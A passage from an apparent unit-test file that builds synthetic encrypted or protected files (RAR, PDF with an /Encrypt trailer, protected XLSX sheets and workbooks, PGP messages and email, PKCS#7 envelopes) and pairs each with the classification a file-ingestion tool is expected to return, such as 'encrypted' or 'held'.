      () => Buffer.concat([Buffer.from('526172211a070100', 'hex'), NOISE]),
      /^(unsupported-format|encrypted)/,
    ],
    'locked-unknown-handler.pdf': [
      () =>
        Buffer.from(
          Buffer.from(pdf())
            .toString('latin1')
            .replace(
              'trailer\n<<',
              'trailer\n<< /Encrypt << /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >> /ID [<00><00>]',
            ),
          'latin1',
        ),
      /^(encrypted|damaged)/,
    ],
    'sheet-protected.xlsx': [
      () => sheet('', '<sheetProtection password="CC1A" sheet="1"/>'),
      /held/,
    ],
    'book-protected.xlsx': [
      () =>
        withParts(sheet(), {
          'xl/workbook.xml': (xml) =>
            xml.replace('<sheets>', '<workbookProtection lockStructure="1"/><sheets>'),
        }),
      /held/,
    ],
    'pgp.asc': [
      () =>
        strToU8(
          '-----BEGIN PGP MESSAGE-----\n\nhQEMA0123456789abcdefAQf/\n=abcd\n-----END PGP MESSAGE-----\n',
        ),
      /^encrypted/,
    ],
    'pgp-attached.eml': [
      () =>
        mail(
          '--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0\r\n-----END PGP MESSAGE-----\r\n--b--',
          'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n',
        ),
      /encrypted/,
    ],
    'sealed.p7m': [
      () => Buffer.concat([Buffer.from('3082030006092a864886f70d010703a08202f1', 'hex'), NOISE]),
      /^(encrypted|unsupported-format)/,
    ],
  }
}
